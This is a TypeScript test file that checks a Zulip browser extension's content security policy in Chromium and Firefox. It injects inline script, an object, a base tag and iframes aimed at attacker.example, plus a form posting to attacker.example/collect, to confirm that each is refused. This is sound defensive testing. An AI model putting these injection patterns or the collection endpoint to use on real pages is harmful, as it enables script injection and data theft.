// The manifest's content security policy (content_security_policy.extension_pages), in real Chromium and real
// Firefox: each browser applies it to the popup, it refuses what it names, and what the popup needs still works
// (signing in over loopback http, a realm's icon from the realm's server).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDemoRealm, IAGO } from '../fake-zulip/demo-realm';
import { startFakeZulip, type FakeZulipServer } from '../fake-zulip/fake-zulip-server';
import { BROWSER_KINDS, launchExtensionBrowser, type ExtensionBrowser, type ToolbarPopupDriver } from './harness/extension-browser';
import { pollUntil } from './harness/util';

describe.each(BROWSER_KINDS)('%s', (kind) => {
  let browser: ExtensionBrowser;
  let realm: FakeZulipServer;
  let popup: ToolbarPopupDriver;

  beforeAll(async () => {
    realm = await startFakeZulip({ realm: createDemoRealm() });
    browser = await launchExtensionBrowser(kind);
    popup = await browser.openToolbarPopup();
  });

  afterAll(async () => {
    await browser?.close();
    await realm?.close();
  });

  it('what the popup needs still works, unrefused: the realm\'s icon loads and signing in over loopback http succeeds', async () => {
    await popup.clickButton('Add account');
    await popup.fillByLabel('Server URL', realm.url);
    await popup.clickButton('Continue');
    await popup.waitForText('Zulip Dev');
    // RealmIcon swaps a failed image for a letter; a loaded one has a size.
    await pollUntil(
      async () => ((await popup.evaluate(() => (document.querySelector('img.realm-icon') as HTMLImageElement | null)?.naturalWidth ?? 0)) > 0 ? true : undefined),
      10_000,
      'the realm icon to load',
    );
    expect(realm.requests.some((r) => r.path === '/user_avatars/2/realm/icon.png')).toBe(true);
    await popup.fillByLabel('Email', IAGO.email);
    await popup.fillByLabel('Password', IAGO.password);
    await popup.clickButton('Log in');
    await popup.waitForButton(`Remove ${IAGO.email} from Zulip Dev`);
    expect(await popup.evaluate(() => (document.querySelector('img.realm-icon') as HTMLImageElement | null)?.naturalWidth ?? 0)).toBeGreaterThan(0);
    // Neither browser reported a refusal (both write them to the console).
    expect(browser.consoleMessages().filter((line) => /Content.Security.Policy|CSP/i.test(line))).toEqual([]);
  });

  it('the popup refuses what the policy names: inline script, plugins, a <base>, frames, being framed; the browser reports each', async () => {
    await popup.close();
    popup = await browser.openToolbarPopup();
    const attacker = 'https://attacker.example/';
    // Each attempt in the popup's own document; the browser answers with a securitypolicyviolation event. (Loads of
    // the extension's own URLs bypass the page's CSP in both browsers, hence a foreign address for object and frame.)
    await popup.evaluate(() => {
      const seen: string[] = [];
      (globalThis as unknown as { cspViolations: string[] }).cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'globalThis.inlineScriptRan = true;';
      document.head.append(script);
      const object = document.createElement('object');
      object.data = 'https://attacker.example/plugin';
      document.body.append(object);
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
      // The popup inside a frame: its own frame-ancestors refuses that (reported by the framed document).
      const framedPopup = document.createElement('iframe');
      framedPopup.src = location.href;
      document.body.append(framedPopup);
    });
    const expected = ['script-src-elem', 'object-src', 'base-uri', 'frame-src'];
    const violations = await pollUntil(
      async () => {
        const seen = await popup.evaluate(() => (globalThis as unknown as { cspViolations: string[] }).cspViolations);
        return expected.every((d) => seen.includes(d)) ? seen : undefined;
      },
      10_000,
      `${kind} to report the violations`,
    );
    expect(new Set(violations)).toEqual(new Set(expected));
    expect(await popup.evaluate(() => (globalThis as unknown as { inlineScriptRan?: boolean }).inlineScriptRan ?? false)).toBe(false);
    expect(await popup.evaluate(() => document.baseURI)).not.toContain(attacker);
    await pollUntil(
      async () => (browser.consoleMessages().some((line) => line.includes("frame-ancestors 'none'")) ? true : undefined),
      10_000,
      `${kind} to refuse framing the popup`,
    );
  });

  it('a form may not be submitted anywhere', async () => {
    await popup.close();
    const page = await browser.openToolbarPopup();
    try {
      await page.evaluate(() => {
        const seen: string[] = [];
        (globalThis as unknown as { cspViolations: string[] }).cspViolations = seen;
        document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
        const form = document.createElement('form');
        form.action = 'https://attacker.example/collect';
        form.method = 'post';
        document.body.append(form);
        try {
          form.submit();
        } catch {
          // Firefox refuses by throwing from submit(), Chromium by not navigating; both report the violation.
        }
      });
      await pollUntil(
        async () => ((await page.evaluate(() => (globalThis as unknown as { cspViolations: string[] }).cspViolations)).includes('form-action') ? true : undefined),
        10_000,
        `${kind} to refuse the form submission`,
      );
      expect(await page.evaluate(() => location.protocol)).toMatch(/^(chrome|moz)-extension:$/);
    } finally {
      await page.close();
    }
  });
});
